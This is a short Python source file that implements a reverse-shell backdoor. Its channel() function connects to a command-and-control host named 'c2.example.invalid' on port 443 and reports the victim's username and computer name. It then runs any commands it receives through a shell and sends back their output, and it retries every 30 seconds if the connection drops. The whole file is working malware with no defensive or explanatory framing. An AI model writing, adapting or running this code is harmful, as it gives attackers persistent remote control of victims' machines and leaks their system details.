import os
import socket
import subprocess
import time


def channel():
    while True:
        try:
            s = socket.socket()
            s.connect(("c2.example.invalid", 443))
            s.send(("[+] %s@%s\n" % (os.getenv("USERNAME"), os.getenv("COMPUTERNAME"))).encode())
            while True:
                cmd = s.recv(4096).decode().strip()
                if not cmd or cmd == "exit":
                    break
                if cmd.startswith("cd "):
                    os.chdir(cmd[3:])
                    s.send(b"ok\n")
                    continue
                p = subprocess.run(cmd, shell=True, capture_output=True, stdin=subprocess.DEVNULL)
                s.send(p.stdout + p.stderr + b"\n> ")
            s.close()
        except Exception:
            time.sleep(30)
